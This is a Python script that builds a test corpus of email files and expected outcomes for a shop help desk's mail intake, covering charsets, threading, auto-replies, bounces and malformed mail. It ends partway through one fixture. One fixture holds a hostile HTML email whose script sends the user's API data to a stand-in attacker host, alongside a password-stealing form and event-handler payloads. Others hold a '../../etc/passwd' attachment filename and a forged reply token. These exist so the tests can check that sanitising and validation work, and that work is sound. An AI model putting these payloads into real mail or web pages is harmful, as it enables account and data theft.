#!/usr/bin/env python3
"""Writes the mail corpus (NNN-*.eml) and its manifest (expected.toml) next to this file.

The messages are shaped after what real clients and servers send (Gmail, Outlook, Apple Mail,
Thunderbird, Exchange auto-replies, Postfix/Exim/qmail bounces, list servers), in the charsets
shops in our markets meet (KOI8-R, Windows-1251, ISO-8859-2, ISO-2022-JP, UTF-8). Regenerate
with `python3 tests/data/mail/generate.py`; the 20 MB message is built by the test itself.

The corpus test (tests/api/mail_corpus.rs) feeds them in file order to the intake core with
SECRET and OUR_HOST below, and checks each expectation.
"""
import base64
import hmac
import hashlib
import os
import quopri

HERE = os.path.dirname(os.path.abspath(__file__))
SECRET = b"corpus-secret-0123456789abcdef-0123456789"
OUR_HOST = "support.shop.example"
SUPPORT = "support@shop.example"

entries = []  # (file, dict of expectations)
files = {}


def token(number):
    # The format of src/mail/token.rs (`reply_token`): t<N>.<16 hex of HMAC-SHA256>.
    mac = hmac.new(SECRET, b"frontdesk reply token v1:" + str(number).encode(), hashlib.sha256).hexdigest()[:16]
    return f"support+t{number}.{mac}@shop.example"


def our_id(number, n):
    return f"<fd.{number}.{n:020x}@{OUR_HOST}>"


def crlf(s):
    return s.replace("\r\n", "\n").replace("\n", "\r\n")


def add(name, raw, **expect):
    if isinstance(raw, str):
        raw = crlf(raw).encode("utf-8")
    files[name] = raw
    entries.append((name, expect))


def step(**kw):
    entries.append((None, kw))


def b64(data, width=76):
    s = base64.b64encode(data).decode()
    return "\n".join(s[i:i + width] for i in range(0, len(s), width))


def ew(text, charset="utf-8", enc="B"):
    data = text.encode(charset)
    if enc == "B":
        return f"=?{charset}?B?{base64.b64encode(data).decode()}?="
    q = quopri.encodestring(data, header=True).decode().replace("\n", "")
    return f"=?{charset}?Q?{q}?="


PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
DATE = "Date: Mon, 4 Mar 2024 10:15:00 +0100"

# ------------------------------------------------------------------ new requests, many shapes

add("001-plain-ascii.eml", f"""Return-Path: <ann@example.com>
Delivered-To: {SUPPORT}
From: Ann Smith <ann@example.com>
To: {SUPPORT}
Subject: Order 4711 has not arrived
{DATE}
Message-ID: <CAFx1.ann.001@mail.example.com>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

Hello,

I ordered a kettle two weeks ago (order 4711) and it has not arrived yet.
Could you check?

Ann
""", expect="new", subject="Order 4711 has not arrived", requester="ann@example.com", body_contains="order 4711")

add("002-plain-utf8-russian.eml", f"""From: =?UTF-8?B?0JjQstCw0L0g0J/QtdGC0YDQvtCy?= <ivan@mail.example.ru>
To: {SUPPORT}
Subject: =?UTF-8?B?0JLQvtC30LLRgNCw0YIg0YLQvtCy0LDRgNCw?=
{DATE}
Message-ID: <1709543700.123456@mail.example.ru>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Здравствуйте! Хочу вернуть чайник, он не греет воду.
""", expect="new", subject="Возврат товара", requester="ivan@mail.example.ru", requester_name="Иван Петров",
    body_contains="Здравствуйте")

koi = "Добрый день! Заказ 1234 пришёл без инструкции.\n".encode("koi8-r")
add("003-koi8r-body.eml", crlf(f"""From: Olga <olga@yandex.example>
To: {SUPPORT}
Cc: Boss <boss@yandex.example>
Subject: {ew("Нет инструкции", "koi8-r")}
{DATE}
Message-ID: <koi8.003@yandex.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=KOI8-R
Content-Transfer-Encoding: 8bit

""").encode() + koi.replace(b"\n", b"\r\n"), expect="new", subject="Нет инструкции", body_contains="Добрый день")

cp = "Доброго дня! Чи можна змінити адресу доставки? Їжак, ґанок, є.\n".encode("cp1251")
add("004-windows1251-ukrainian.eml", crlf(f"""From: {ew("Тарас Шевченко", "windows-1251", "Q")} <taras@ukr.example>
To: {SUPPORT}
Cc: bob@ukr.example
Subject: {ew("Зміна адреси", "windows-1251")}
{DATE}
Message-ID: <cp1251.004@ukr.example>
MIME-Version: 1.0
Content-Type: text/plain; charset="windows-1251"
Content-Transfer-Encoding: 8bit

""").encode() + cp.replace(b"\n", b"\r\n"), expect="new", subject="Зміна адреси", requester_name="Тарас Шевченко",
    body_contains="Їжак, ґанок")

jp = "お世話になっております。注文の件で連絡しました。\n".encode("iso-2022-jp")
add("005-iso2022jp.eml", crlf(f"""From: {ew("山田太郎", "iso-2022-jp")} <yamada@example.jp>
To: {SUPPORT}
Subject: {ew("注文について", "iso-2022-jp")}
{DATE}
Message-ID: <jp.005@example.jp>
MIME-Version: 1.0
Content-Type: text/plain; charset=ISO-2022-JP
Content-Transfer-Encoding: 7bit

""").encode() + jp.replace(b"\n", b"\r\n"), expect="new", subject="注文について", requester_name="山田太郎",
    body_contains="注文の件")

add("006-encoded-words-mixed.eml", f"""From: "=?utf-8?Q?Zofia_Kowalska?=" <zofia@poczta.example.pl>
To: {SUPPORT}
Subject: =?utf-8?Q?Zam=C3=B3wienie?= =?utf-8?B?INC90L7QvNC10YAgNTU=?= / =?iso-8859-2?Q?pyta=B3em?=
{DATE}
Message-ID: <ew.006@poczta.example.pl>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

Dzie=C5=84 dobry, pytanie o zam=C3=B3wienie.
""", expect="new", subject_contains="Zamówienie номер 55", body_contains="Dzień dobry")

pl = "Zażółć gęślą jaźń — proszę o fakturę.\n".replace("—", "-").encode("iso-8859-2")
add("007-iso8859-2-qp.eml", crlf(f"""From: Jan <jan@firma.example.pl>
To: {SUPPORT}
Subject: Faktura
{DATE}
Message-ID: <l2.007@firma.example.pl>
MIME-Version: 1.0
Content-Type: text/plain; charset=iso-8859-2
Content-Transfer-Encoding: quoted-printable

""").encode() + quopri.encodestring(pl).replace(b"\n", b"\r\n"), expect="new", body_contains="Zażółć gęślą jaźń")

add("008-html-only.eml", f"""From: Shopper <shopper@example.com>
To: {SUPPORT}
Subject: HTML only
{DATE}
Message-ID: <html.008@example.com>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><body><p>Hello <b>team</b>,</p><p>the <a href="https://shop.example/p/1">product page</a> shows the wrong price.</p></body></html>
""", expect="new", body_contains="wrong price", html_contains='href="https://shop.example/p/1"')

add("009-multipart-alternative.eml", f"""From: Max Mustermann <max@example.de>
To: {SUPPORT}
Subject: Lieferzeit
{DATE}
Message-ID: <alt.009@example.de>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="ALT"

--ALT
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

Wie lange dauert die Lieferung nach =C3=96sterreich?
--ALT
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: quoted-printable

<div dir=3D"ltr">Wie lange dauert die Lieferung nach <i>=C3=96sterreich</i>?</div>
--ALT--
""", expect="new", body_contains="nach Österreich?", html_contains="<i>Österreich</i>")

add("010-hostile-html.eml", f"""From: Mallory <mallory@evil.example>
To: {SUPPORT}
Subject: Invoice attached, please check
{DATE}
Message-ID: <evil.010@evil.example>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="E"

--E
Content-Type: text/plain; charset=utf-8

Please check the invoice.
--E
Content-Type: text/html; charset=utf-8

<html><head><style>body{{background:url(http://tracker.evil.example/css.gif)}}</style>
<script>fetch('/api/v1/me').then(r=>r.text()).then(t=>new Image().src='http://evil.example/?'+t)</script></head>
<body onload="alert(1)"><p style="position:fixed;top:0;left:0;width:100%;height:100%">Click <a href="javascript:alert(2)">here</a></p>
<img src="http://tracker.evil.example/pixel.gif?u=1" width="1" height="1" onerror="alert(3)">
<form action="http://evil.example/steal"><input name="password" type="password"></form>
<iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/x.swf"></object>
<svg><animate onbegin="alert(4)"/></svg><meta http-equiv="refresh" content="0;url=http://evil.example">
</body></html>
--E--
""", expect="new", html_lacks=["<script", "onload", "onerror", "onbegin", "javascript:", "<form", "<iframe", "<object", "<style",
                               "style=", "http-equiv", " src=\"http"],
    html_contains='data-remote-src="http://tracker.evil.example/pixel.gif?u=1"')

add("011-pdf-attachment.eml", f"""From: Buyer <buyer@example.com>
To: {SUPPORT}
Subject: Receipt
{DATE}
Message-ID: <att.011@example.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="MIX"

--MIX
Content-Type: text/plain; charset=utf-8

Receipt attached.
--MIX
Content-Type: application/pdf; name="receipt.pdf"
Content-Disposition: attachment; filename="receipt.pdf"
Content-Transfer-Encoding: base64

{b64(PDF)}
--MIX--
""", expect="new", attachments=["receipt.pdf"])

add("012-inline-image-related.eml", f"""From: Designer <designer@example.com>
To: {SUPPORT}
Subject: Screenshot of the error
{DATE}
Message-ID: <rel.012@example.com>
MIME-Version: 1.0
Content-Type: multipart/related; boundary="REL"; type="text/html"

--REL
Content-Type: text/html; charset=utf-8

<p>This is what I see:</p><img src="cid:shot1@example.com" alt="screenshot">
--REL
Content-Type: image/png; name="shot.png"
Content-ID: <shot1@example.com>
Content-Disposition: inline; filename="shot.png"
Content-Transfer-Encoding: base64

{b64(PNG)}
--REL--
""", expect="new", attachments=["shot.png"], html_contains="/shot.png?inline=1", html_lacks=["cid:"])

add("013-rfc2231-filenames.eml", f"""From: Anna <anna@example.de>
To: {SUPPORT}
Subject: Dokumente
{DATE}
Message-ID: <rfc2231.013@example.de>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="M"

--M
Content-Type: text/plain; charset=utf-8

Anbei die Unterlagen.
--M
Content-Type: application/pdf
Content-Disposition: attachment; filename*=UTF-8''Rechnung%20M%C3%A4rz.pdf
Content-Transfer-Encoding: base64

{b64(PDF)}
--M
Content-Type: text/plain; name="=?utf-8?B?0YHQv9C40YHQvtC6LnR4dA==?="
Content-Disposition: attachment; filename="=?utf-8?B?0YHQv9C40YHQvtC6LnR4dA==?="

one, two, three
--M
Content-Type: application/octet-stream; name="../../etc/passwd"
Content-Disposition: attachment; filename="../../etc/passwd"

root:x:0:0
--M--
""", expect="new", attachments=["Rechnung März.pdf", "список.txt", "passwd"])

add("014-gmail-new.eml", f"""MIME-Version: 1.0
Date: Tue, 5 Mar 2024 09:01:22 +0100
Message-ID: <CAHk7abc+gmail.014@mail.gmail.com>
Subject: Discount code does not work
From: Lena Fischer <lena.fischer@gmail.example>
To: {SUPPORT}
Content-Type: multipart/alternative; boundary="000000000000a1b2c3d4e5f6"

--000000000000a1b2c3d4e5f6
Content-Type: text/plain; charset="UTF-8"

Hi, the code SPRING24 says "expired" but your banner says it runs until May.

--000000000000a1b2c3d4e5f6
Content-Type: text/html; charset="UTF-8"

<div dir="ltr">Hi, the code SPRING24 says &quot;expired&quot; but your banner says it runs until May.</div>

--000000000000a1b2c3d4e5f6--
""", expect="new", body_contains="SPRING24")

add("015-outlook-new.eml", f"""Received: from EXCH01.corp.example (10.0.0.5) by EXCH02.corp.example
From: "Kowalski, Piotr" <p.kowalski@corp.example>
To: "{SUPPORT}" <{SUPPORT}>
Subject: Bulk order for our office
Thread-Topic: Bulk order for our office
Thread-Index: AdpuQ2xVb3R1c2VyIGFkZHJlc3M=
Date: Tue, 5 Mar 2024 08:30:11 +0000
Message-ID: <AM0PR07MB1234ABCD015@AM0PR07MB1234.eurprd07.prod.outlook.com>
Accept-Language: pl-PL, en-US
Content-Language: en-US
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
Content-Type: multipart/alternative;
\tboundary="_000_AM0PR07MB1234ABCD015_"
MIME-Version: 1.0

--_000_AM0PR07MB1234ABCD015_
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

Hello,=0D=0A=0D=0AWe would like to order 40 kettles. Is there a discount?=
=0D=0A=0D=0APiotr
--_000_AM0PR07MB1234ABCD015_
Content-Type: text/html; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

<html xmlns:o=3D"urn:schemas-microsoft-com:office:office"><head><meta http-equ=
iv=3D"Content-Type" content=3D"text/html; charset=3Dus-ascii"><style><!--
p.MsoNormal {{margin:0cm;font-size:11.0pt}}--></style></head><body lang=3D"EN-US"><div class=3D"WordSection1"><p class=3D"MsoNormal">Hello,<o:p></o:p></p><p class=3D"MsoNormal">We would like to order 40 kettles. Is there a discount?<o:p></o:p></p></div></body></html>
--_000_AM0PR07MB1234ABCD015_--
""", expect="new", body_contains="40 kettles", html_lacks=["<style", "MsoNormal {"])

add("016-apple-mail-new.eml", f"""From: Claire Dubois <claire@icloud.example>
Content-Type: multipart/alternative;
\tboundary="Apple-Mail=_5B8F1A2C-016"
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3774.400.31\\))
Subject: Colour of the teapot
Message-Id: <5B8F1A2C-016@icloud.example>
Date: Tue, 5 Mar 2024 11:02:45 +0100
To: {SUPPORT}
X-Mailer: Apple Mail (2.3774.400.31)

--Apple-Mail=_5B8F1A2C-016
Content-Transfer-Encoding: quoted-printable
Content-Type: text/plain;
\tcharset=utf-8

Bonjour, is the teapot available in blue? Merci=E2=80=AF!
--Apple-Mail=_5B8F1A2C-016
Content-Transfer-Encoding: quoted-printable
Content-Type: text/html;
\tcharset=utf-8

<html><head><meta http-equiv=3D"content-type" content=3D"text/html; charset=3Dutf-8"></head><body style=3D"overflow-wrap: break-word;">Bonjour, is the teapot available in blue? Merci=E2=80=AF!</body></html>
--Apple-Mail=_5B8F1A2C-016--
""", expect="new", body_contains="available in blue")

# ------------------------------------------------------------------ replies (SPEC E4)

add("017-gmail-reply-in-reply-to.eml", f"""MIME-Version: 1.0
References: <CAFx1.ann.001@mail.example.com>
In-Reply-To: <CAFx1.ann.001@mail.example.com>
From: Ann Smith <ann@example.com>
Date: Wed, 6 Mar 2024 10:00:00 +0100
Message-ID: <CAFx1.ann.017@mail.example.com>
Subject: Re: Order 4711 has not arrived
To: {SUPPORT}
Content-Type: text/plain; charset="UTF-8"

Any news on this?

On Mon, 4 Mar 2024 at 10:15, Ann Smith <ann@example.com> wrote:
> Hello,
> I ordered a kettle two weeks ago (order 4711)
""", expect="threaded", threaded_to="001-plain-ascii.eml", rule="message_id")

add("018-outlook-reply-references-only.eml", f"""From: "Kowalski, Piotr" <p.kowalski@corp.example>
To: "{SUPPORT}" <{SUPPORT}>
Subject: RE: Bulk order for our office
Thread-Topic: Bulk order for our office
Thread-Index: AdpuQ2xVb3R1c2VyIGFkZHJlc3M=AAABBB
Date: Wed, 6 Mar 2024 08:30:11 +0000
Message-ID: <AM0PR07MB1234ABCD018@AM0PR07MB1234.eurprd07.prod.outlook.com>
References: <AM0PR07MB1234ABCD015@AM0PR07MB1234.eurprd07.prod.outlook.com>
Content-Type: text/plain; charset="us-ascii"
MIME-Version: 1.0

Also: can you deliver before Friday?

-----Original Message-----
From: Kowalski, Piotr
Sent: Tuesday, March 5, 2024 9:30 AM
""", expect="threaded", threaded_to="015-outlook-new.eml", rule="message_id")

add("019-apple-reply.eml", f"""From: Claire Dubois <claire@icloud.example>
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit
Mime-Version: 1.0 (Mac OS X Mail 16.0)
Subject: Re: Colour of the teapot
Message-Id: <5B8F1A2C-019@icloud.example>
In-Reply-To: <5B8F1A2C-016@icloud.example>
References: <5B8F1A2C-016@icloud.example>
Date: Wed, 6 Mar 2024 11:02:45 +0100
To: {SUPPORT}

Or in green, if blue is sold out.

> On 5 Mar 2024, at 11:02, Claire Dubois <claire@icloud.example> wrote:
""", expect="threaded", threaded_to="016-apple-mail-new.eml", rule="message_id")

# An agent answers ticket #1002 (the test stores this reply with our Message-ID).
step(action="agent_reply", ticket_of="002-plain-utf8-russian.eml", message_id=our_id(1002, 1), cc=["anna.cc@mail.example.ru"])

add("020-reply-to-our-message-id.eml", f"""From: =?UTF-8?B?0JjQstCw0L0g0J/QtdGC0YDQvtCy?= <ivan@mail.example.ru>
To: {SUPPORT}
Subject: =?UTF-8?B?UmU6INCS0L7Qt9Cy0YDQsNGCINGC0L7QstCw0YDQsA==?= [#1002]
Message-ID: <1709543999.2@mail.example.ru>
In-Reply-To: {our_id(1002, 1)}
References: <1709543700.123456@mail.example.ru> {our_id(1002, 1)}
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Спасибо, жду курьера.
""", expect="threaded", threaded_to="002-plain-utf8-russian.eml", rule="our_message_id")

add("021-reply-token-only.eml", f"""From: Olga <olga@yandex.example>
To: Support <{token(1003)}>
Subject: thanks
Message-ID: <koi8.021@yandex.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Got it, thank you (no headers kept by my phone client).
""", expect="threaded", threaded_to="003-koi8r-body.eml", rule="token")

bad = token(1003)[:-len("@shop.example") - 1] + ("0" if not token(1003).split("@")[0].endswith("0") else "1") + "@shop.example"
add("022-reply-token-forged.eml", f"""From: Eve <eve@evil.example>
To: {bad}
Subject: let me in
Message-ID: <forged.022@evil.example>
Content-Type: text/plain; charset=utf-8

A token with a wrong MAC must not reach ticket #1003.
""", expect="new")

add("023-subject-number-from-requester.eml", f"""From: ann@example.com
To: {SUPPORT}
Subject: Re: [#1001] still waiting
Message-ID: <subj.023@mail.example.com>
Content-Type: text/plain; charset=utf-8

New mail, no In-Reply-To, but the ticket number in the subject.
""", expect="threaded", threaded_to="001-plain-ascii.eml", rule="subject")

add("024-subject-number-from-stranger.eml", f"""From: Stranger <someone@else.example>
To: {SUPPORT}
Subject: [#1001] I want to read this ticket
Message-ID: <subj.024@else.example>
Content-Type: text/plain; charset=utf-8

I am not on that ticket.
""", expect="new")

add("025-subject-number-from-cc.eml", f"""From: Bob <bob@ukr.example>
To: {SUPPORT}
Subject: Re: [#1004] address change
Message-ID: <subj.025@ukr.example>
Content-Type: text/plain; charset=utf-8

I was in Cc of the first mail; here is the new address.
""", expect="threaded", threaded_to="004-windows1251-ukrainian.eml", rule="subject")

add("026-subject-number-from-reply-cc.eml", f"""From: anna.cc@mail.example.ru
To: {SUPPORT}
Subject: [#1002] from the colleague in Cc of your answer
Message-ID: <subj.026@mail.example.ru>
Content-Type: text/plain; charset=utf-8

Our agent's reply had me in Cc.
""", expect="threaded", threaded_to="002-plain-utf8-russian.eml", rule="subject")

add("027-duplicate-message-id.eml", f"""Return-Path: <ann@example.com>
From: Ann Smith <ann@example.com>
To: {SUPPORT}
Subject: Order 4711 has not arrived
Message-ID: <CAFx1.ann.001@mail.example.com>
X-Spam-Score: 0.1
Content-Type: text/plain; charset=us-ascii

(the same message delivered a second time, with an extra header)
""", expect="ignored", reason="duplicate")

NOID = f"""From: Fax Gateway <fax@old.example>
To: {SUPPORT}
Subject: Fax from +49 30 1234567

A message without a Message-ID.
"""
add("028-no-message-id.eml", NOID, expect="new")
add("029-no-message-id-again.eml", NOID, expect="ignored", reason="duplicate")

# ------------------------------------------------------------------ forwards

add("030-gmail-forward.eml", f"""MIME-Version: 1.0
From: Shop Owner <owner@shop.example>
Date: Thu, 7 Mar 2024 09:00:00 +0100
Message-ID: <CAFwd.030@mail.gmail.com>
Subject: Fwd: Broken handle
To: {SUPPORT}
Content-Type: text/plain; charset="UTF-8"

Please take care of this.

---------- Forwarded message ---------
From: Greta Berg <greta@kunde.example>
Date: Wed, 6 Mar 2024 at 18:00
Subject: Broken handle
To: <owner@shop.example>

The handle of my teapot broke after one week.
""", expect="new", requester="owner@shop.example", body_contains="Forwarded message")

add("031-outlook-forward-as-attachment.eml", f"""From: "Shop Owner" <owner@shop.example>
To: {SUPPORT}
Subject: FW: Missing parcel
Message-ID: <AM0PR07FW031@outlook.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="FW"

--FW
Content-Type: text/plain; charset=us-ascii

See attached customer mail.
--FW
Content-Type: message/rfc822
Content-Disposition: attachment; filename="Missing parcel.eml"

From: Hans Meier <hans@kunde.example>
To: owner@shop.example
Subject: Missing parcel
Message-ID: <inner.031@kunde.example>
Content-Type: text/plain; charset=us-ascii

My parcel never came.
--FW--
""", expect="new", attachments=["Missing parcel.eml"])

add("032-apple-forward.eml", f"""From: Shop Owner <owner@shop.example>
Content-Type: text/plain; charset=utf-8
Mime-Version: 1.0 (Mac OS X Mail 16.0)
Subject: Fwd: Payment question
Message-Id: <FWD-032@icloud.example>
To: {SUPPORT}

Begin forwarded message:

From: Pierre Martin <pierre@client.example>
Subject: Payment question
Date: 6 March 2024 at 20:00:00 CET
To: owner@shop.example

Can I pay by bank transfer?
""", expect="new", requester="owner@shop.example")

# ------------------------------------------------------------------ automatic mail (SPEC E5)

add("033-auto-replied-to-our-reply.eml", f"""From: Ivan's Autoresponder <ivan@mail.example.ru>
To: {SUPPORT}
Subject: Auto: Re: Возврат товара
Auto-Submitted: auto-replied
Message-ID: <auto.033@mail.example.ru>
In-Reply-To: {our_id(1002, 1)}
Content-Type: text/plain; charset=utf-8

I am on vacation until 15 March.
""", expect="threaded", threaded_to="002-plain-utf8-russian.eml", automatic="auto_reply")

add("034-outlook-out-of-office.eml", f"""From: "Kowalski, Piotr" <p.kowalski@corp.example>
To: {SUPPORT}
Subject: Automatic reply: Bulk order for our office
Message-ID: <AM0PR07OOF034@outlook.example>
X-MS-Exchange-Inbox-Rules-Loop: p.kowalski@corp.example
X-Auto-Response-Suppress: All
Content-Type: text/plain; charset=us-ascii

I am out of the office until Monday.
""", expect="new", automatic="auto_reply")

add("035-x-autoreply.eml", f"""From: helpdesk@partner.example
To: {SUPPORT}
Subject: We received your message
X-Autoreply: yes
Message-ID: <xauto.035@partner.example>
Content-Type: text/plain; charset=us-ascii

Thank you, we will answer within 24 hours.
""", expect="new", automatic="auto_reply")

add("036-precedence-auto-reply.eml", f"""From: info@vendor.example
To: {SUPPORT}
Subject: Your request
Precedence: auto_reply
Message-ID: <prec.036@vendor.example>
Content-Type: text/plain; charset=us-ascii

This mailbox is not monitored.
""", expect="new", automatic="auto_reply")

add("037-russian-autoreply-subject.eml", f"""From: sergey@mail.example.ru
To: {SUPPORT}
Subject: =?UTF-8?B?0JDQstGC0L7QvtGC0LLQtdGCOiDQsiDQvtGC0L/Rg9GB0LrQtQ==?=
Message-ID: <ru.037@mail.example.ru>
Content-Type: text/plain; charset=utf-8

Я в отпуске.
""", expect="new", automatic="auto_reply")

add("038-dsn-bounce-of-our-reply.eml", f"""Return-Path: <>
From: Mail Delivery System <MAILER-DAEMON@mx.shop.example>
To: {SUPPORT}
Subject: Undelivered Mail Returned to Sender
Auto-Submitted: auto-replied
Message-ID: <20240307.DSN038@mx.shop.example>
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="DSN"

--DSN
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mx.shop.example.
I'm sorry to have to inform you that your message could not be delivered.

<ivan@mail.example.ru>: host mail.example.ru said: 550 5.1.1 User unknown
--DSN
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.shop.example
Final-Recipient: rfc822; ivan@mail.example.ru
Action: failed
Status: 5.1.1
--DSN
Content-Description: Undelivered Message Headers
Content-Type: text/rfc822-headers

From: Support <{SUPPORT}>
To: ivan@mail.example.ru
Subject: Re: Return [#1002]
Message-ID: {our_id(1002, 1)}
--DSN--
""", expect="threaded", threaded_to="002-plain-utf8-russian.eml", automatic="bounce")

add("039-qmail-bounce.eml", f"""Return-Path: <>
From: MAILER-DAEMON@old.example
To: {SUPPORT}
Subject: failure notice
Message-ID: <qmail.039@old.example>

Hi. This is the qmail-send program at old.example.
I'm afraid I wasn't able to deliver your message to the following addresses.
<gone@old.example>:
Sorry, no mailbox here by that name. (#5.1.1)
""", expect="new", automatic="bounce")

add("040-exim-bounce-rfc822.eml", f"""Return-Path: <>
From: Mail Delivery System <Mailer-Daemon@exim.example>
To: {SUPPORT}
Subject: Mail delivery failed: returning message to sender
Message-ID: <E1exim.040@exim.example>
X-Failed-Recipients: nobody@exim.example
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="X"

--X
Content-Type: text/plain

A message that you sent could not be delivered.
--X
Content-Type: message/delivery-status

Reporting-MTA: dns; exim.example
--X
Content-Type: message/rfc822

From: someone@else.example
To: nobody@exim.example
Subject: hello
Message-ID: <unknown.040@else.example>

hello
--X--
""", expect="new", automatic="bounce")

add("041-mailing-list.eml", f"""From: Rust Weekly <newsletter@rust-weekly.example>
To: {SUPPORT}
Subject: This week in Rust 538
List-Id: "This Week in Rust" <twir.rust-weekly.example>
List-Unsubscribe: <mailto:leave@rust-weekly.example>, <https://rust-weekly.example/unsub>
List-Post: NO
Precedence: list
Message-ID: <twir.041@rust-weekly.example>
Content-Type: text/plain; charset=utf-8

Hello and welcome to another issue!
""", expect="new", automatic="list")

add("042-precedence-bulk.eml", f"""From: Deals <deals@marketing.example>
To: {SUPPORT}
Subject: 50% off everything
Precedence: bulk
Message-ID: <bulk.042@marketing.example>
Content-Type: text/html; charset=utf-8

<p>Sale!<img src="https://marketing.example/open.gif?id=42"></p>
""", expect="new", automatic="list", html_contains="data-remote-src=\"https://marketing.example/open.gif?id=42\"")

add("043-precedence-junk.eml", f"""From: x@spam.example
To: {SUPPORT}
Subject: You won
Precedence: junk
Message-ID: <junk.043@spam.example>

Claim now.
""", expect="new", automatic="list")

add("044-noreply-sender.eml", f"""From: Parcel Service <noreply@parcel.example>
To: {SUPPORT}
Subject: Your parcel 00340434 is on its way
Message-ID: <track.044@parcel.example>
Content-Type: text/plain; charset=utf-8

Tracking number 00340434.
""", expect="new", automatic="list")

add("045-auto-generated-notice.eml", f"""From: Payment Provider <payments@psp.example>
To: {SUPPORT}
Subject: Chargeback opened for order 4711
Auto-Submitted: auto-generated
Message-ID: <cb.045@psp.example>
Content-Type: text/plain; charset=utf-8

A chargeback was opened.
""", expect="new", automatic="auto_submitted")

# ------------------------------------------------------------------ our own mail

add("046-our-message-id-domain.eml", f"""From: Someone <someone@relay.example>
To: {SUPPORT}
Subject: Re: something [#1001]
Message-ID: <fd.1001.abcdefabcdefabcdefab@{OUR_HOST}>
Content-Type: text/plain; charset=utf-8

A copy of mail we generated, looping back.
""", expect="ignored", reason="own_mail")

add("047-from-our-address.eml", f"""From: Support <{SUPPORT}>
To: {SUPPORT}
Subject: Test from the shared mailbox
Message-ID: <self.047@shop.example>
Content-Type: text/plain; charset=utf-8

Sent from our own support address.
""", expect="ignored", reason="own_mail")

add("048-from-reply-token-address.eml", f"""From: Support <{token(1001)}>
To: {SUPPORT}
Subject: Re: Order 4711 has not arrived [#1001]
Message-ID: <tok.048@shop.example>
Content-Type: text/plain; charset=utf-8

Our reply address as sender: our own mail.
""", expect="ignored", reason="own_mail")

add("049-redelivered-our-reply.eml", f"""From: Support <help@shop-relay.example>
To: ivan@mail.example.ru
Subject: Re: Возврат товара [#1002]
Message-ID: {our_id(1002, 1)}
Content-Type: text/plain; charset=utf-8

A copy of our own reply (Bcc to the mailbox).
""", expect="ignored", reason="own_mail")

# ------------------------------------------------------------------ malformed and truncated

add("050-no-from.eml", f"""To: {SUPPORT}
Subject: who am I
Message-ID: <nofrom.050@example.com>

No From header at all.
""", expect="refused", reason="no_sender")

add("051-from-without-address.eml", f"""From: undisclosed sender
To: {SUPPORT}
Subject: hidden
Message-ID: <nofrom.051@example.com>

The From has no address.
""", expect="refused", reason="no_sender")

add("052-binary-garbage.eml", bytes(range(256)) * 4, expect="refused", reason="not_a_mail")

add("053-empty.eml", b"", expect="refused", reason="empty_message")

add("054-truncated-multipart.eml", f"""From: Cut Off <cut@example.com>
To: {SUPPORT}
Subject: truncated upload
Message-ID: <trunc.054@example.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="T"

--T
Content-Type: text/plain; charset=utf-8

The attachment below is cut in the middle.
--T
Content-Type: application/pdf; name="big.pdf"
Content-Disposition: attachment; filename="big.pdf"
Content-Transfer-Encoding: base64

JVBERi0xLjQKMSAwIG9iajw8L1R5cGUvQ2F0YWxvZy9QYWdlcyAyIDAgUj4+ZW5kb2JqCjIgMCBv
YmoJ""", expect="new", body_contains="cut in the middle")

add("055-headers-only.eml", f"""From: Header Only <ho@example.com>
To: {SUPPORT}
Subject: (nothing below)
Message-ID: <ho.055@example.com>
""", expect="new", body_contains="(this message has no text)")

add("056-bare-lf.eml", f"From: Unix User <unix@example.org>\nTo: {SUPPORT}\nSubject: bare LF line endings\nMessage-ID: <lf.056@example.org>\n\nWritten by a script with \\n only.\n".encode(),
    expect="new", subject="bare LF line endings", body_contains="with \\n only")

add("057-very-long-subject.eml", f"""From: Verbose <verbose@example.com>
To: {SUPPORT}
Subject: {"very long subject " * 60}
Message-ID: <long.057@example.com>

Body.
""", expect="new", subject_len=300)

add("058-unknown-charset.eml", f"""From: Odd <odd@example.com>
To: {SUPPORT}
Subject: strange charset
Message-ID: <cs.058@example.com>
Content-Type: text/plain; charset=x-unknown-charset

Plain ASCII text in an unknown charset.
""", expect="new", body_contains="unknown charset")

add("059-broken-base64.eml", f"""From: Broken <broken@example.com>
To: {SUPPORT}
Subject: broken base64
Message-ID: <b64.059@example.com>
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64

SGVsbG8gd29ybGQ!!!***not base64 at all
""", expect="new")

add("060-nested-multipart.eml", f"""From: Thunderbird User <tb@example.net>
To: {SUPPORT}
Subject: Photos of the damage
Message-ID: <tb.060@example.net>
User-Agent: Mozilla Thunderbird
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="OUTER"

--OUTER
